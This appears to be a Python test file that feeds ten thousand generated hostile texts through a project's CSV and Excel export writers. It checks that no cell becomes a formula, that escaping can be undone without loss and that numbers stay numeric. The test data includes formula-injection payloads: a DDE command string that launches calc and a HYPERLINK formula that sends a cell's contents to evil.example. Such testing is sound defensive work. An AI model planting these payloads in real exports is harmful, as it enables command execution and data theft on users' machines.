"""Ten thousand hostile texts through every writer of tables: no formula, and nothing is lost."""

import csv
import io
import random
import unicodedata
import zipfile
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from rest_framework import serializers
from tablib import Dataset

from goals.admin import tables
from goals.api.figures import DecimalText
from members.sheets import as_csv, as_xlsx, bare, harmless
from portal.api.about import About
from portal.api.files import KINDS
from portal.api.table import columns
from tests import house_rules as rules

COUNT = 10_000
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
BEFORE = ["", "", " ", "\u00a0", "\t", "\r\n", '"', "'", "''", "“", "«\u202f", "\u200b", "\ufeff"]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "SUM(A1:A9)",
    "IMPORTXML(CONCAT(A1))",
    "5",
    "-5",
    "عملية",
    "été, «oui»; non",
    'a "quoted" word',
    "line\nbreak",
    "bell\x07",
    "🚓",
]


def hostile() -> list[str]:
    chance = random.Random(4)  # the same texts each time: a failure can be looked at
    made = {
        "".join(chance.choices(BEFORE, k=chance.randint(0, 3)))
        + "".join(chance.choices(SIGNS, k=chance.randint(1, 3)))
        + chance.choice(BODIES)
        + chance.choice(["", " ", "=1", str(chance.randrange(10**6))])
        for _ in range(4 * COUNT)
    }
    return sorted(made)[:COUNT]


TEXTS = hostile()
_DROPPED = " \t\r\n\"'`«‘’“”\u00a0\u202f\u200b\ufeff"


def could_be_a_formula(cell: str) -> bool:
    """Said without the rule that is tested: a sign of any width, behind whatever may be dropped."""
    first = unicodedata.normalize("NFKC", cell.lstrip(_DROPPED))[:1]
    return bool(cell) and not cell.startswith("'") and (first in "=+-@" or cell[0] in "\t\r\n")


def clean(text: str) -> str:
    """A text without the letters that no workbook may hold."""
    return ILLEGAL_CHARACTERS_RE.sub("", text)


def differing(found: list[str], wanted: list[str]) -> list[tuple[str, str]]:
    """The first few that are not as they should be; ten thousand would not be read."""
    assert len(found) == len(wanted)
    return [pair for pair in zip(found, wanted, strict=True) if pair[0] != pair[1]][:3]


# ---- every writer: texts in, bytes out


class OneText(serializers.Serializer):
    text = serializers.CharField()


def api_file(ending: str) -> Callable[[list[str]], bytes]:
    def write(texts: list[str]) -> bytes:
        out = io.BytesIO()
        date = datetime(2026, 1, 1, tzinfo=UTC)
        about = About("noun", "noun", date, 1, False, [("List", texts[0])], {})
        [kind] = [kind for kind in KINDS if kind.ending == ending]
        kind.write(out, about, columns(OneText()), [{"text": text} for text in texts])
        return out.getvalue()

    return write


def desk_csv(texts: list[str]) -> bytes:
    return as_csv(["text"], ([text] for text in texts))


def desk_xlsx(texts: list[str]) -> bytes:
    return as_xlsx(["text"], ([text] for text in texts), title="x", is_right_to_left=False)


def back_office(ending: str) -> Callable[[list[str]], bytes]:
    def write(texts: list[str]) -> bytes:
        dataset = Dataset(*([clean(text)] for text in texts), headers=["text"])
        content = tables.written(dataset, ending)
        return content.encode() if isinstance(content, str) else content

    return write


CSV_WRITERS = [api_file("csv"), desk_csv, back_office("csv")]
XLSX_WRITERS = [api_file("xlsx"), desk_xlsx, back_office("xlsx")]


def test_there_are_ten_thousand():
    assert len(TEXTS) == COUNT
    assert sum(could_be_a_formula(text) for text in TEXTS) > 0.75 * COUNT


@pytest.mark.parametrize("write", CSV_WRITERS, ids=["api", "desk", "back office"])
def test_no_cell_of_a_csv_file_is_a_formula(write):
    content = write(TEXTS).decode("utf-8-sig")

    cells = [row[0] for row in csv.reader(io.StringIO(content, newline=""))][1:]

    assert [cell for cell in cells if could_be_a_formula(cell)][:3] == []
    assert differing([bare(cell) for cell in cells], [clean(text) for text in TEXTS]) == []


@pytest.mark.parametrize("write", XLSX_WRITERS, ids=["api", "desk", "back office"])
def test_no_cell_of_a_workbook_is_a_formula(write):
    content = write(TEXTS)
    workbook = load_workbook(io.BytesIO(content))

    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]

    assert len(cells) > COUNT
    assert [cell.value for cell in cells if cell.data_type == "f"][:3] == []
    assert [cell.value for cell in cells if could_be_a_formula(str(cell.value))][:3] == []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(
            b"<f>" in archive.read(name) or b"<f " in archive.read(name) for name in sheets
        )


@pytest.mark.parametrize("text", ["plain", "'quoted'", "16.10", "", "a=b", "–5 %", "(-5)"])
def test_what_is_no_formula_stays_as_it_is(text):
    assert harmless(text) == text == bare(text)


def test_the_apostrophe_can_always_be_taken_off_again():
    texts = [*TEXTS, *(f"'{text}" for text in TEXTS)]

    assert differing([bare(harmless(t)) for t in texts], [clean(t) for t in texts]) == []
    assert len({harmless(clean(text)) for text in texts}) == len({clean(text) for text in texts})


# ---- numbers stay numbers


class OneNumber(serializers.Serializer):
    value = DecimalText()


NUMBERS = ["-5", "-0.25", "0", "78754", "1234567890.1234", "-12345678901234567890.5"]


def number_file(ending: str) -> bytes:
    out = io.BytesIO()
    about = About("noun", "noun", datetime(2026, 1, 1, tzinfo=UTC), 1, False, [], {})
    [kind] = [kind for kind in KINDS if kind.ending == ending]
    kind.write(out, about, columns(OneNumber()), [{"value": number} for number in NUMBERS])
    return out.getvalue()


def test_a_negative_number_of_a_csv_file_is_a_number():
    rows = csv.reader(io.StringIO(number_file("csv").decode("utf-8-sig")))

    assert [row[0] for row in rows][1:] == NUMBERS


def test_a_number_of_a_workbook_is_a_number():
    [sheet, _about] = load_workbook(io.BytesIO(number_file("xlsx"))).worksheets
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]

    assert [cell.data_type for cell in cells] == ["n"] * 5 + ["s"]  # no spreadsheet holds 21 digits
    assert [Decimal(str(cell.value)) for cell in cells] == [Decimal(number) for number in NUMBERS]


def test_every_writer_of_tables_is_tested_here():
    """A new place that writes tables comes to this file, too."""
    words = ("csv.writer", "Workbook(", "export_data(")
    found = {
        str(Path(path).relative_to(rules.ROOT))
        for path in rules.files(".py")
        if rules.in_a_room(path) and any(word in path.read_text() for word in words)
    }

    assert found == {"members/sheets.py", "portal/api/files.py", "goals/admin/tables.py"}
